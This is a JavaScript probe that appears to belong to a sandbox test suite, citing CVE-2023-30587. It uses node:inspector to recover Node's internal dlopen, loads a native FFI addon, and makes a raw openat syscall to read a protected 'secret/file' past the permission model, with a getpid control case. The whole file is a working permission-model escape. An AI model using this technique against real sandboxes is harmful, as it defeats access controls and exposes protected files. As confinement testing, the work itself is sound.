// Route: As a debugger of itself, looks into closures of Node for the loader of native code, finds the library by which
//   our own process makes system calls, and opens a file by it.
// Known from: CVE-2023-30587 (Node permission model, the inspector)
// Refused: call-refused, EACCES, ENOTCAPABLE
// Twin: makes an allowed system call by it, or computes where it is not found
// Unconfined: works
import inspector from 'node:inspector';
import os from 'node:os';

function closureOf(expression, wanted) {
  const session = new inspector.Session();
  session.connect();
  const ask = (method, parameters) => {
    let answer;
    session.post(method, parameters, (error, result) => {
      answer = error ?? result;
    });
    return answer;
  };
  const inner = (objectId) => ask('Runtime.getProperties', { objectId });
  const { result } = ask('Runtime.evaluate', { expression });
  const scopes = inner(result.objectId).internalProperties.find(({ name }) => name === '[[Scopes]]');
  for (const { value } of inner(scopes.value.objectId).result) {
    const found = value?.objectId && inner(value.objectId).result.find(({ name }) => name === wanted);
    if (!found) continue;
    ask('Runtime.callFunctionOn', {
      objectId: found.value.objectId,
      functionDeclaration: 'function () { globalThis.found = this; }',
    });
    return globalThis.found;
  }
  throw Object.assign(new Error('Not found'), { code: 'not-found' });
}
let syscall;
let library;
function findCalls(addon) {
  const { dlopen } = closureOf('process.cwd', 'rawMethods');
  const loaded = { exports: {} };
  const here = `/cloudabi/${addon.slice(addon.indexOf('node_modules/@koromix'))}`;
  for (const path of [addon, here]) {
    try {
      Reflect.apply(dlopen, process, [loaded, path, os.constants.dlopen.RTLD_LAZY]);
      break;
    } catch (error) {
      // In a world of its own, it lies elsewhere.
      if (path === here) throw error;
    }
  }
  library = loaded.exports;
  syscall = library.load(null).func('syscall', 'int64_t', Array(7).fill('int64_t'));
}
const OPEN = process.arch === 'x64' ? 257 : 56;
const GETPID = process.arch === 'x64' ? 39 : 172;
export const attempt = ({ base, addon }) => {
  findCalls(addon);
  const path = Buffer.from(`${base}/secret/file\0`);
  const fd = Number(syscall(OPEN, -100, Number(library.address(path)), 0, 0, 0, 0));
  return fd >= 0 ? 'ok' : 'call-refused';
};
export const twin = () => {
  if (syscall === undefined) return 'ok';
  return Number(syscall(GETPID, 0, 0, 0, 0, 0, 0)) === process.pid ? 'ok' : 'other';
};
